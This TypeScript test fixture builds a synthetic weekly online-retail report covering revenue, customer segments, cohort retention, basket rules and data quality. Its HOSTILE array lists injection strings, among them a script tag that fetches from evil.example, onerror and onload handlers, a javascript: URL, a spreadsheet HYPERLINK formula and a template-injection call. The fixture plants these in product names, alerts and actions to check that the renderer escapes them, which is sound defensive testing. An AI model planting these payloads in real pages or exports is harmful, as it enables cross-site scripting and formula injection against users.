/** A report as the analyses make it: every kind of block, every format, and text that tries to be more than text. */
import { formatter } from "../../src/format.ts";
import { SEGMENT_COLOURS, THEME } from "../../src/look/theme.ts";
import type { Report } from "../../src/report/contract.ts";
import type { Cell, Section, TableColumn, ValueFormat, VegaLiteSpec } from "../../src/section.ts";

export const format = formatter("en-GB", "GBP");

export const HOSTILE = [
  `<script>fetch("http://evil.example/x")</script>`,
  `"><img src=x onerror="window.hit=1">`,
  `</script><script>window.hit=2</script>`,
  `</style><svg onload=window.hit=3>`,
  `javascript:window.hit=4`,
  `=HYPERLINK("http://evil.example","click")`,
  `{{constructor.constructor("window.hit=5")()}}`,
  `\u202Egnp.exe\u202C \u2028 \u0000 \ud800 end`,
];

const column = (key: string, label: string, as: ValueFormat, more: Partial<TableColumn> = {}): TableColumn => ({
  key,
  label,
  format: as,
  ...more,
});
const rows = (keys: readonly string[], values: readonly (readonly Cell[])[]): Record<string, Cell>[] =>
  values.map((line) => Object.fromEntries(keys.map((key, i) => [key, line[i] ?? null])));

const WEEKLY = [
  131, 129, 145, 148, 184, 122, 148, 115, 85, 131, 206, 199, 160, 117, 178, 185, 118, 137, 175, 125, 183, 181, 154, 173,
  171, 150, 144, 191, 213, 328, 207, 303, 206, 264, 240, 290, 349, 381, 308, 319.9,
].map((thousands, i) => ({
  week: new Date(Date.UTC(2011, 1, 28 + 7 * i)).toISOString().slice(0, 10),
  net_revenue: thousands * 1000,
}));

const trend: VegaLiteSpec = {
  data: { values: WEEKLY },
  encoding: { x: { field: "week", type: "temporal", title: null, axis: { format: "%b", tickCount: "month" } } },
  layer: [
    {
      mark: { type: "area", line: { color: THEME.accent, strokeWidth: 1.75 }, color: THEME.accentSoft },
      encoding: { y: { field: "net_revenue", type: "quantitative", title: null, axis: { format: "$~s" } } },
    },
    {
      transform: [{ filter: "datum.net_revenue === 381000" }],
      mark: { type: "point", filled: false, color: THEME.accent, size: 90, strokeWidth: 1.5 },
      encoding: { y: { field: "net_revenue", type: "quantitative" } },
    },
    {
      transform: [{ filter: "datum.net_revenue === 381000" }],
      mark: { type: "text", dy: -12, text: "Black Friday week", color: THEME.muted },
      encoding: { y: { field: "net_revenue", type: "quantitative" } },
    },
  ],
};

const bars = (field: string, title: string, values: readonly (readonly [string, number])[]): VegaLiteSpec => ({
  data: { values: values.map(([name, value]) => ({ name, [field]: value })) },
  encoding: {
    y: { field: "name", type: "nominal", sort: null, title: null },
    x: { field, type: "quantitative", axis: null },
  },
  layer: [
    { mark: { type: "bar", height: { band: 0.62 } } },
    {
      mark: { type: "text", align: "left", dx: 5, color: THEME.muted },
      encoding: { text: { field, type: "quantitative", format: "$.3~s", title } },
    },
  ],
});

const WEEKDAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"];
const hours: VegaLiteSpec = {
  data: {
    values: WEEKDAYS.flatMap((weekday, d) =>
      Array.from({ length: 13 }, (_, h) => ({
        weekday,
        hour: h + 7,
        orders:
          d === 5
            ? 0
            : Math.max(0, Math.round(40 * Math.exp(-((h - 5 + (d === 6 ? 1 : 0)) ** 2) / 7) * (1.2 - 0.09 * d))),
      })),
    ),
  },
  mark: "rect",
  encoding: {
    x: { field: "hour", type: "ordinal", title: null },
    y: { field: "weekday", type: "ordinal", sort: null, title: null },
    color: { field: "orders", type: "quantitative", legend: null },
  },
};

const GRID = [
  [332, 354, 119, 46, 9],
  [147, 254, 236, 148, 69],
  [122, 229, 187, 165, 160],
  [83, 135, 150, 188, 264],
  [44, 114, 116, 183, 458],
];
const rfmGrid: VegaLiteSpec = {
  data: {
    values: GRID.flatMap((line, r) =>
      line.map((customers, f) => ({ r: r + 1, fm: f + 1, customers, mean: (r + 3) * (f + 1) ** 2 * 40 })),
    ),
  },
  encoding: {
    x: { field: "fm", type: "ordinal", title: "Frequency and spend score" },
    y: { field: "r", type: "ordinal", sort: "descending", title: "Recency score" },
  },
  layer: [
    { mark: "rect", encoding: { color: { field: "mean", type: "quantitative", legend: null } } },
    {
      mark: "text",
      encoding: {
        text: { field: "customers", type: "quantitative" },
        color: { condition: { test: "datum.mean > 3600", value: THEME.surface }, value: THEME.ink },
      },
    },
  ],
};

export const SEGMENTS: readonly (readonly Cell[])[] = [
  ["Champions", 641, 42, 0.499, 7, 11.8, 6293, "Reward; early access; ask for referrals"],
  ["Loyal", 777, -2, 0.29, 34, 6.6, 3016, "Upsell; loyalty tier"],
  ["Potential Loyalist", 515, -16, 0.035, 17, 2, 550, "Membership; second-category offer"],
  ["New", 44, -16, 0.001, 9, 1, 147, "Onboard; second-order voucher"],
  ["Promising", 83, 5, 0.002, 23, 1, 147, "Brand story; free sample"],
  ["Need Attention", 187, -1, 0.019, 53, 2.3, 808, "Limited offer on last category"],
  ["About to Sleep", 351, 18, 0.013, 51, 1.2, 299, "Reminder with bestsellers"],
  ["At Risk", 549, 10, 0.076, 153, 2.8, 1111, "Personal call for top accounts; win-back"],
  ["Can't Lose", 78, -9, 0.03, 121, 7.1, 3055, "Account manager; ask why"],
  ["Hibernating", 401, 8, 0.015, 121, 1.2, 292, "Low-cost win-back only"],
  ["Lost", 686, 6, 0.022, 273, 1.1, 256, "Leave, or annual catalogue"],
];
const paying: VegaLiteSpec = {
  data: {
    values: SEGMENTS.flatMap(([segment, customers, , revenue]) => [
      { segment, share: Number(customers) / 4312, of: "customers" },
      { segment, share: revenue, of: "revenue" },
    ]),
  },
  mark: { type: "bar" },
  encoding: {
    y: { field: "segment", type: "nominal", sort: null, title: null },
    yOffset: { field: "of" },
    x: { field: "share", type: "quantitative", title: null, axis: { format: ".0%" } },
    color: {
      field: "segment",
      type: "nominal",
      legend: null,
      scale: { domain: Object.keys(SEGMENT_COLOURS), range: Object.values(SEGMENT_COLOURS) },
    },
    opacity: { condition: { test: "datum.of === 'customers'", value: 0.4 }, value: 1 },
  },
};

const COHORTS = [
  [885, 0.366, 0.323, 0.384, 0.363, 0.398, 0.363, 0.349, 0.354, 0.395, 0.374, 0.503, 0.266],
  [417, 0.221, 0.266, 0.23, 0.321, 0.288, 0.247, 0.242, 0.3, 0.326, 0.365, 0.118],
  [380, 0.187, 0.187, 0.284, 0.271, 0.247, 0.253, 0.279, 0.247, 0.305, 0.068],
  [452, 0.15, 0.252, 0.199, 0.223, 0.168, 0.268, 0.23, 0.279, 0.086],
  [300, 0.213, 0.203, 0.21, 0.197, 0.227, 0.217, 0.26, 0.073],
  [284, 0.19, 0.173, 0.173, 0.208, 0.232, 0.264, 0.095],
  [242, 0.174, 0.157, 0.264, 0.231, 0.335, 0.095],
  [188, 0.181, 0.207, 0.223, 0.271, 0.112],
  [169, 0.207, 0.249, 0.243, 0.124],
  [299, 0.234, 0.301, 0.114],
  [358, 0.24, 0.115],
  [323, 0.111],
];
const month = (i: number): string =>
  `${2010 + Math.floor((11 + i) / 12)}-${String(((11 + i) % 12) + 1).padStart(2, "0")}`;
const triangle = rows(
  ["cohort", "size", "m0", ...COHORTS.map((_, i) => `m${i + 1}`)],
  COHORTS.map(([size, ...shares], i) => [month(i), size!, 1, ...shares]),
);
const curves: VegaLiteSpec = {
  data: {
    values: COHORTS.slice(0, 8).flatMap(([, ...shares], i) =>
      shares.map((share, age) => ({ cohort: month(i), age: age + 1, share })),
    ),
  },
  layer: [
    { mark: { type: "line", strokeWidth: 1, color: THEME.context }, encoding: { detail: { field: "cohort" } } },
    { mark: { type: "line", strokeWidth: 2.5 }, encoding: { y: { aggregate: "mean", field: "share" } } },
  ],
  encoding: {
    x: { field: "age", type: "quantitative", title: "Months since first purchase", axis: { grid: false } },
    y: { field: "share", type: "quantitative", title: null, axis: { format: ".0%" } },
  },
};
const intake: VegaLiteSpec = {
  data: { values: COHORTS.map(([size], i) => ({ month: `${month(i)}-01`, size })) },
  mark: "bar",
  encoding: {
    x: { timeUnit: "yearmonth", field: "month", type: "ordinal", title: null, axis: { format: "%b" } },
    y: { field: "size", type: "quantitative", title: null },
  },
};

const PAIRS = [
  "Regency teacup, green",
  "Regency teacup, roses",
  "Jumbo bag, red retrospot",
  "Lunch bag, suki",
  "Party bunting",
  "Alarm clock, bakelike red",
];
const rules = Array.from({ length: 40 }, (_, i) => ({
  antecedent: i < HOSTILE.length ? HOSTILE[i]! : PAIRS[i % 6]!,
  consequent: PAIRS[(i * 5 + 1) % 6]!,
  support: 0.031 - i * 0.0005,
  confidence: 0.82 - ((i * 7) % 40) / 90,
  lift: 24 - i * 0.45,
  baskets: 541 - i * 9,
}));
const scatter: VegaLiteSpec = {
  data: { values: rules },
  mark: { type: "point", filled: true, opacity: 0.85, size: 60 },
  encoding: {
    x: { field: "support", type: "quantitative", title: "Support", axis: { format: ".1%" } },
    y: {
      field: "confidence",
      type: "quantitative",
      title: "Confidence",
      axis: { format: ".0%" },
      scale: { zero: false },
    },
    color: { field: "lift", type: "quantitative", title: "Lift" },
  },
};

const risk = (count: number): Record<string, Cell>[] =>
  Array.from({ length: count }, (_, i) => ({
    customer_id: String(15749 + i * 37),
    segment: i % 3 === 0 ? "Can't Lose" : "At Risk",
    spent: 21536 - i * 811.5,
    orders: 3 + (i % 9),
    silent: 231 - i * 6,
    gap: i === 4 ? null : 97 - i * 3,
    trend: 0.2 - i * 0.03,
    last: `2011-${String(9 - (i % 8)).padStart(2, "0")}-1${i % 10}`,
  }));

const trading: Section = {
  name: "kpis",
  leads: true,
  topic: "Trading",
  title: "Autumn carried weekly revenue to twice the summer level, and the order book is still growing",
  subtitle: "All orders, net of returns and cancellations, to 4 December 2011",
  figures: [
    {
      id: "gross",
      label: "Gross revenue",
      value: 341_220,
      format: "moneyShort",
      change: 0.041,
      changeLabel: "on last week",
      better: "up",
      trend: [],
      cell: "kpi_weekly.40.gross_revenue",
    },
    {
      id: "returns",
      label: "Returned",
      value: 0.0625,
      format: "percent",
      change: -0.12,
      changeLabel: "on last week",
      better: "down",
      trend: [],
    },
    {
      id: "repeat",
      label: "Repeat rate",
      value: 0.912,
      format: "percent",
      change: 0.0003,
      changeLabel: "on last week",
      better: "up",
      trend: [],
    },
    {
      id: "items",
      label: "Items per order",
      value: 21.3,
      format: "decimal1",
      change: null,
      changeLabel: "on last week",
      better: "neutral",
      trend: [],
    },
  ],
  highlights: [],
  blocks: [
    {
      kind: "chart",
      id: "trend",
      title: "Autumn carried weekly revenue to twice the summer level",
      subtitle: "Net revenue by week",
      width: "full",
      height: 180,
      alt: "Weekly net revenue from March to December 2011, doubling in autumn to £381k in the week of Black Friday.",
      spec: trend,
    },
    {
      kind: "chart",
      id: "countries",
      title: "Nine pounds in ten come from the United Kingdom",
      subtitle: "Net revenue by country, this year, without the United Kingdom (£7.3m)",
      width: "half",
      height: 210,
      alt: "The Netherlands lead with £285k, then Ireland, Germany and France.",
      spec: bars("net_revenue", "Net revenue", [
        ["Netherlands", 285446],
        ["EIRE", 265546],
        ["Germany", 228867],
        ["France", 209024],
        ["Australia", 138521],
        ["Spain", 61577],
        ["Switzerland", 56444],
        [HOSTILE[0]!, 41196],
      ]),
    },
    {
      kind: "chart",
      id: "hours",
      title: "Orders arrive between ten and two, most on Mondays",
      subtitle: "Orders by weekday and hour of the day",
      width: "half",
      height: 210,
      alt: "Orders peak at noon on every trading day; there is no trade on Saturdays.",
      spec: hours,
    },
    {
      kind: "table",
      id: "products",
      title: "Paper craft tops the week; the cake stand slips to third",
      subtitle: "Best sellers by net revenue this week",
      width: "full",
      source: "product_rank",
      columns: [
        column("product", "Product", "text"),
        column("rank", "Rank", "integer"),
        column("delta", "Δ rank", "delta"),
        column("revenue", "Net revenue", "money"),
        column("change", "On last week", "change"),
        column("units", "Units", "integer"),
        column("first", "First sold", "date"),
      ],
      rows: rows(
        ["product", "rank", "delta", "revenue", "change", "units", "first"],
        [
          ["Paper craft, little birdie", 1, 14, 16846.96, 1.92, 8099, "2011-12-01"],
          ["Regency cakestand 3 tier", 2, -1, 14259.3, -0.052, 1243, "2010-12-01"],
          ["White hanging heart T-light holder", 3, -1, 10060.35, 0.031, 3612, "2010-12-01"],
          ["Jumbo bag red retrospot", 4, 0, 8522.08, 0, 4318, "2010-12-01"],
          ["Medium ceramic top storage jar", 5, 22, 8141.67, 0.71, 7746, "2011-01-18"],
          [HOSTILE[1]!, 6, 3, 7780.4, null, 311, null],
        ],
      ),
    },
  ],
  actions: ["Keep the cake stand in stock through December: it sold out on two of the last three Fridays."],
  notes: [
    "Net revenue is quantity × unit price of valid lines, less returns and cancellations; a week runs from Monday to Sunday.",
    "Weekday and hour are those of the till's local time.",
  ],
};

const customers: Section = {
  name: "rfm",
  topic: "Customers",
  title: "33% of customers bring 79% of revenue; 627 accounts worth £848k are slipping away",
  subtitle: "RFM segments of 4,312 identified customers, whole history to 4 December 2011",
  figures: [],
  highlights: [],
  blocks: [
    {
      kind: "chart",
      id: "rfm-grid",
      title: "Where customers stand",
      subtitle: "Customers per cell; stronger colour = higher mean spend",
      width: "half",
      height: 210,
      alt: "Recency by frequency and spend; 458 customers are in the best cell.",
      spec: rfmGrid,
    },
    {
      kind: "chart",
      id: "paying",
      title: "Who pays the bills",
      subtitle: "Share of customers (light) and of revenue (full)",
      width: "half",
      height: 240,
      alt: "Champions are 15% of customers and half of revenue.",
      spec: paying,
    },
    {
      kind: "table",
      id: "segments",
      title: "Champions grew by 42; New and Potential Loyalists shrank",
      subtitle: "Segments, with the change on last week",
      width: "full",
      source: "rfm_segments",
      columns: [
        column("segment", "Segment", "segment"),
        column("customers", "Customers", "integer"),
        column("delta", "Δ week", "delta"),
        column("share", "Revenue share", "percent"),
        column("since", "Days since", "days"),
        column("orders", "Orders", "decimal1"),
        column("spend", "Mean spend", "moneyWhole"),
        column("action", "What to do", "text"),
      ],
      rows: rows(["segment", "customers", "delta", "share", "since", "orders", "spend", "action"], SEGMENTS),
    },
    {
      kind: "table",
      id: "risk",
      title: "Call these first",
      subtitle: "Highest spenders in At Risk and Can't Lose",
      width: "half",
      printRows: 8,
      source: "at_risk_customers",
      columns: [
        column("customer_id", "Customer", "text"),
        column("segment", "Segment", "segment"),
        column("spent", "Spent", "moneyWhole"),
        column("silent", "Silent", "days"),
        column("gap", "Usual gap", "days"),
      ],
      rows: risk(30),
    },
    {
      kind: "table",
      id: "whales",
      title: "Most valuable",
      subtitle: "Net spend to date",
      width: "half",
      printRows: 8,
      columns: [
        column("customer_id", "Customer", "text"),
        column("segment", "Segment", "segment"),
        column("spent", "Spent", "moneyWhole"),
        column("orders", "Orders", "integer"),
        column("trend", "Trend", "change"),
      ],
      rows: risk(12),
    },
  ],
  actions: [
    "Call the eight accounts under “Call these first” this week: together they spent £132k.",
    "Give the 515 Potential Loyalists a second-category offer before Christmas.",
  ],
  notes: [
    "Recency, frequency and monetary value are scored 1–5 by quintile (equal values get equal scores); the segment follows from recency × mean of frequency and monetary score.",
    "Money is net of returns; frequency counts sales orders. Edges of recency: 9 / 29 / 68 / 176 days.",
  ],
};

const cohorts: Section = {
  name: "cohorts",
  topic: "Retention",
  title: "The first month decides: one newcomer in five comes back, and those who do stay",
  subtitle: "Monthly acquisition cohorts, December 2010 to November 2011; the last month is incomplete",
  figures: [
    {
      id: "m1",
      label: "Back after one month",
      value: 0.206,
      format: "percent",
      change: -0.031,
      changeLabel: "on the quarter before",
      better: "up",
      trend: [0.37, 0.22, 0.19, 0.15, 0.21, 0.19, 0.17, 0.18, 0.21, 0.23, 0.24],
    },
    {
      id: "m6",
      label: "Back after six months",
      value: 0.271,
      format: "percent",
      change: 0.012,
      changeLabel: "on the quarter before",
      better: "up",
      trend: [],
    },
    {
      id: "half",
      label: "Cohorts measured",
      value: 12,
      format: "integer",
      change: null,
      changeLabel: "",
      better: "neutral",
      trend: [],
    },
  ],
  highlights: [],
  blocks: [
    {
      kind: "table",
      id: "triangle",
      title: "The December 2010 cohort stays twice as loyal as any later one",
      subtitle: "Share of each cohort that buys again, by months since first purchase",
      width: "full",
      source: "cohort_retention",
      columns: [
        column("cohort", "Cohort", "month"),
        column("size", "Size", "integer"),
        column("m0", "M0", "percent", { shade: true }),
        ...COHORTS.map((_, i) => column(`m${i + 1}`, `M${i + 1}`, "percent", { shade: true })),
      ],
      rows: triangle,
    },
    {
      kind: "chart",
      id: "curves",
      title: "Retention is flat after the first month",
      subtitle: "Share active by age; bold = mean of all cohorts",
      width: "half",
      height: 190,
      alt: "Eight retention curves between 15% and 50%, flat after month one.",
      spec: curves,
    },
    {
      kind: "chart",
      id: "intake",
      title: "Autumn's intake is back at the level of spring",
      subtitle: "New customers by month of first purchase",
      width: "half",
      height: 190,
      alt: "New customers per month fall from 885 to 169 in August and recover to 358 in October.",
      spec: intake,
    },
    {
      kind: "text",
      id: "reading",
      title: "How to read this",
      subtitle: "",
      width: "full",
      items: [
        "A row is everybody whose first purchase was in that month; M1 is the share of them who bought in the month after.",
        "The last cell of every row belongs to a month that is not over yet.",
      ],
    },
  ],
  actions: ["Send the second-order voucher in week two, not in week six: who is not back after a month rarely comes."],
  notes: [
    "A customer's cohort is the calendar month of the first valid purchase. Cells with fewer than 30 customers are left out.",
  ],
};

const basket: Section = {
  name: "basket",
  topic: "What sells together",
  title: "Teacups sell in threes: who buys the green one is 24 times as likely to take the roses",
  subtitle: "18,532 baskets, 3,665 products; rules with at least 2% support and 30% confidence",
  figures: [],
  highlights: [],
  blocks: [
    {
      kind: "chart",
      id: "scatter",
      title: "A dozen rules are both frequent and sure",
      subtitle: "Every rule by support and confidence; stronger colour = higher lift",
      width: "full",
      height: 200,
      alt: "Forty rules between 1% and 3% support and 38% to 82% confidence.",
      spec: scatter,
    },
    {
      kind: "table",
      id: "rules",
      title: "Forty rules worth a shelf",
      subtitle: "Customers who buy the left one also buy the right one",
      width: "full",
      printRows: 20,
      source: "basket_rules",
      filters: ["confidence", "lift"],
      columns: [
        column("antecedent", "Who buys", "text"),
        column("consequent", "also buys", "text"),
        column("support", "Support", "percent"),
        column("confidence", "Confidence", "percent"),
        column("lift", "Lift", "times"),
        column("baskets", "Baskets", "integer"),
        column("p", "p-value", "decimal3"),
      ],
      rows: rules.map((rule, i) => ({ ...rule, p: i / 1000 })),
    },
  ],
  actions: ["Put the three Regency teacups on one shelf and offer them as a set."],
  notes: ["Lift is confidence divided by the consequent's own share of baskets. p by Fisher's exact test, one-sided."],
};

const quality: Section = {
  name: "quality",
  topic: "Data quality",
  title: "The data is sound; one line in four carries no customer",
  subtitle: "541,909 records of online-retail.csv",
  figures: [
    {
      id: "read",
      label: "Records read",
      value: 541_909,
      format: "integer",
      change: null,
      changeLabel: "",
      better: "neutral",
      trend: [],
    },
    {
      id: "clean",
      label: "Clean",
      value: 0.99,
      format: "percent",
      change: null,
      changeLabel: "",
      better: "up",
      trend: [],
    },
    {
      id: "rejected",
      label: "Rejected",
      value: 5268,
      format: "integer",
      change: null,
      changeLabel: "",
      better: "down",
      trend: [],
    },
    {
      id: "anonymous",
      label: "No customer",
      value: 0.249,
      format: "percent",
      change: null,
      changeLabel: "",
      better: "down",
      trend: [],
    },
  ],
  highlights: [],
  blocks: [
    {
      kind: "table",
      id: "checks",
      title: "Two of nine checks need an eye",
      subtitle: "Checks of this run",
      width: "half",
      columns: [
        column("check", "Check", "text"),
        column("passed", "Passed", "boolean" as ValueFormat),
        column("share", "Share", "percent"),
      ],
      rows: rows(
        ["check", "passed", "share"],
        [
          ["dates are real", true, 1],
          ["quantities are not zero", true, 1],
          ["prices are positive", false, 0.9954],
          ["customers are known", false, 0.751],
        ],
      ),
    },
    {
      kind: "text",
      id: "said",
      title: "What was rejected",
      subtitle: "Every refused record is kept with its reason",
      width: "half",
      items: ["5,225 exact duplicates of another line", "43 lines with an impossible date", HOSTILE[2]!],
    },
  ],
  actions: [],
  notes: ["Every record read is clean, rejected with a reason, or blank; the three add up."],
};

const forecast: Section = {
  name: "forecast",
  topic: "Forecast",
  title: "Forecast: not enough data yet",
  subtitle: "needs two full years of weeks; has 53 weeks",
  insufficient: { needs: "two full years of weeks", has: "53 weeks" },
  figures: [],
  highlights: [],
  blocks: [],
  actions: [],
  notes: [],
};

const spark = (end: number, dip: number): number[] =>
  Array.from({ length: 13 }, (_, i) => end * (0.7 + i / 40 + ((i * 7) % 5) / 30) - (i === dip ? end / 8 : 0));

export const report: Report = {
  edition: "2011-W48",
  project: "Online Retail",
  periodLabel: "28 November – 4 December 2011",
  periodShort: "Week 48 · 28 Nov – 4 Dec 2011",
  asOf: "2011-12-05",
  currency: "GBP",
  locale: "en-GB",
  headline: "Revenue up 3.8% as regulars stock up for Christmas; new customers fell by a third",
  figures: [
    {
      id: "revenue",
      label: "Net revenue",
      value: 319_900,
      format: "moneyShort",
      change: 0.038,
      changeLabel: "on last week",
      change2: { change: 0.214, label: "on last year" },
      better: "up",
      trend: spark(320, 3),
      cell: "kpi_weekly.40.net_revenue",
    },
    {
      id: "orders",
      label: "Orders",
      value: 665,
      format: "integer",
      change: 0.074,
      changeLabel: "on last week",
      change2: { change: 0.12, label: "on last year" },
      better: "up",
      trend: spark(665, 5),
    },
    {
      id: "customers",
      label: "Customers",
      value: 516,
      format: "integer",
      change: 0.049,
      changeLabel: "on last week",
      change2: { change: 0.08, label: "on last year" },
      better: "up",
      trend: spark(516, 2),
    },
    {
      id: "aov",
      label: "Average order",
      value: 488.4,
      format: "moneyWhole",
      change: -0.046,
      changeLabel: "on last week",
      change2: { change: null, label: "on last year" },
      better: "up",
      trend: spark(480, 9),
    },
    {
      id: "new",
      label: "New customers",
      value: 45,
      format: "integer",
      change: -0.318,
      changeLabel: "on last week",
      change2: { change: -0.4, label: "on last year" },
      better: "up",
      trend: spark(60, 12).reverse(),
    },
  ],
  highlights: [
    {
      text: "Returning customers were 91% of this week’s active accounts, 5% more of them than last week; orders rose by 46 while the average order slipped by £23.",
      tone: "good",
      weight: 9,
      cells: ["kpi_weekly.40.orders"],
    },
    {
      text: "Champions grew by 42 to 641 customers and bring 50% of all revenue.",
      tone: "good",
      weight: 8,
      cells: ["rfm_segments.0.customers", "rfm_segments.0.share"],
    },
    {
      text: "29 Champions and Loyal customers slipped to At Risk or Can’t Lose. They have spent £60,863 so far.",
      tone: "bad",
      weight: 7,
      cells: ["rfm_moves.3.spent"],
    },
    {
      text: "Only 45 new customers (66 last week): the weakest intake since September.",
      tone: "bad",
      weight: 6,
      cells: [],
    },
    {
      text: "The United Kingdom is 90% of the week’s revenue; France follows with £8.2k.",
      tone: "neutral",
      weight: 5,
      cells: [],
    },
  ],
  assumptions: ["No file names a currency: the amounts are taken as GBP."],
  actions: [
    {
      text: "Call the 8 customers whose orders stopped: £60.9k of yearly spend.",
      count: 8,
      value: 60_863,
      valueLabel: "of yearly spend",
      list: { block: "call-first", table: "call_list", name: "call" },
      weight: 90,
      cells: [],
      section: "rfm",
    },
    {
      text: `Place ${HOSTILE[1]} beside the tea cups.`,
      weight: 50,
      cells: [],
      section: "basket",
    },
  ],
  targets: [],
  alertRules: 2,
  alerts: [
    { text: "New customers are 31.8% below last week; the limit is 25%.", tone: "bad", weight: 2, cells: [] },
    {
      text: `Product ${HOSTILE[0]} sold at a tenth of its usual price on 2 December.`,
      tone: "warning",
      weight: 1,
      cells: [],
    },
  ],
  health: {
    rowScore: 99,
    checkScore: 93.4,
    grade: "amber",
    sentence:
      "541,909 records read, 536,641 clean, 5,268 rejected with a reason (5,225 duplicate lines, 43 invalid dates).",
    remarks: ["24.9% of lines carry no customer: they count in revenue and baskets, not in customer figures."],
  },
  sections: [trading, customers, cohorts, basket, quality, forecast],
  runId: "7f3a9c",
  configHash: "c0ffee12",
};
